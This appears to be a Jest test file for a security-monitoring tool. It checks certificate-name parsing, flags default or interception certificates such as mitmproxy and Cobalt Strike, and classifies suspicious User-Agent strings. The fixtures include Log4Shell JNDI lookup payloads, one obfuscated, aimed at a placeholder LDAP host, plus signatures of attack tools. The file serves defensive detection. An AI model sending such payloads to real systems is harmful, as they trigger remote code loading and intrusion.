import { attribute, certificateTime, parseDistinguishedName } from './certificate';
import { findDefaultMark } from './tls-certificate';
import { classifyUserAgent, obsoletePlatform } from './user-agents';

describe('parseDistinguishedName', () => {
  it('reads RFC 4514, OpenSSL one-line and spaced forms alike', () => {
    const forms = ["CN=R3,O=Let's Encrypt,C=US", "/C=US/O=Let's Encrypt/CN=R3", "C=US, O=Let's Encrypt, CN=R3"];
    const parsed = forms.map((f) => parseDistinguishedName(f)!);
    expect(new Set(parsed.map((p) => p.canonical)).size).toBe(1);
    expect(attribute(parsed[1], 'CN')).toBe('R3');
    expect(attribute(parsed[2], 'O')).toBe("Let's Encrypt");
  });

  it('keeps escaped and unescaped commas inside values', () => {
    expect(attribute(parseDistinguishedName('CN=shop.example.net,O=Acme\\, Inc.,C=US')!, 'O')).toBe('Acme, Inc.');
    expect(attribute(parseDistinguishedName('CN=shop.example.net, O=Acme, Inc., C=US')!, 'O')).toBe('Acme, Inc.');
  });

  it('shares one frozen result per distinct name', () => {
    const first = parseDistinguishedName('CN=shared.example.net,O=Shared');
    expect(parseDistinguishedName('CN=shared.example.net,O=Shared')).toBe(first);
    expect(Object.isFrozen(first)).toBe(true);
    expect(Object.isFrozen(first!.attributes.get('CN'))).toBe(true);
    expect(parseDistinguishedName('CN=other.example.net,O=Shared')).not.toBe(first);
  });

  it('returns undefined for empty or attribute-less text and non-strings', () => {
    expect(parseDistinguishedName('')).toBeUndefined();
    expect(parseDistinguishedName('just some text')).toBeUndefined();
    expect(parseDistinguishedName(42)).toBeUndefined();
  });
});

describe('certificateTime', () => {
  it('ignores zero, missing and unparsable dates', () => {
    expect(certificateTime('0001-01-01T00:00:00Z')).toBeUndefined();
    expect(certificateTime('1970-01-01T00:00:00Z')).toBeUndefined();
    expect(certificateTime('soon')).toBeUndefined();
    expect(certificateTime(undefined)).toBeUndefined();
    expect(certificateTime('2026-01-02T03:04:05+02:00')).toBe(Date.parse('2026-01-02T01:04:05Z'));
  });
});

describe('findDefaultMark', () => {
  it('matches exact values case-insensitively and prefixes where the mark says so', () => {
    expect(findDefaultMark(parseDistinguishedName('O=internet widgits pty ltd'), undefined)?.kind).toBe('placeholder');
    expect(findDefaultMark(undefined, parseDistinguishedName('CN=Fake LE Intermediate X1'))?.kind).toBe('test-ca');
    expect(findDefaultMark(parseDistinguishedName('CN=localhost.example.net'), undefined)).toBeUndefined();
    expect(findDefaultMark(parseDistinguishedName('CN=testing.example.net'), undefined)).toBeUndefined();
  });

  it('returns the first mark in list order across subject and issuer', () => {
    // The list puts the subject's CN=localhost before the issuer's mitmproxy mark, and that before Cobalt Strike's CN.
    const subject = parseDistinguishedName('CN=localhost');
    const issuer = parseDistinguishedName('O=mitmproxy,CN=mitmproxy');
    expect(findDefaultMark(subject, issuer)?.label).toBe('certificate for localhost');
    expect(findDefaultMark(parseDistinguishedName('CN=major cobalt strike'), issuer)?.kind).toBe('interception');
    // Matching depends on the field: an issuer-only mark in a subject does not count.
    expect(findDefaultMark(issuer, undefined)).toBeUndefined();
  });
});

describe('User-Agent classification', () => {
  it.each([
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'attack-tool'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'attack-tool'],
    ['${jndi:ldap://1.2.3.4/a}', 'exploit'],
    ['${${lower:j}ndi:ldap://1.2.3.4/a}', 'exploit'],
    ['Microsoft BITS/7.8', 'lolbin'],
    ['python-requests/2.31.0', 'scripting'],
    ['Go-http-client/1.1', 'scripting'],
  ])('%s is %s', (ua, kind) => {
    expect(classifyUserAgent(ua)?.kind).toBe(kind);
  });

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    'Microsoft-CryptoAPI/10.0',
    'Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50',
    'Spotify/1.2.31 Win32_x86_64/0 (PC desktop)',
  ])('leaves %s alone', (ua) => {
    expect(classifyUserAgent(ua)).toBeUndefined();
    expect(obsoletePlatform(ua)).toBeUndefined();
  });
});
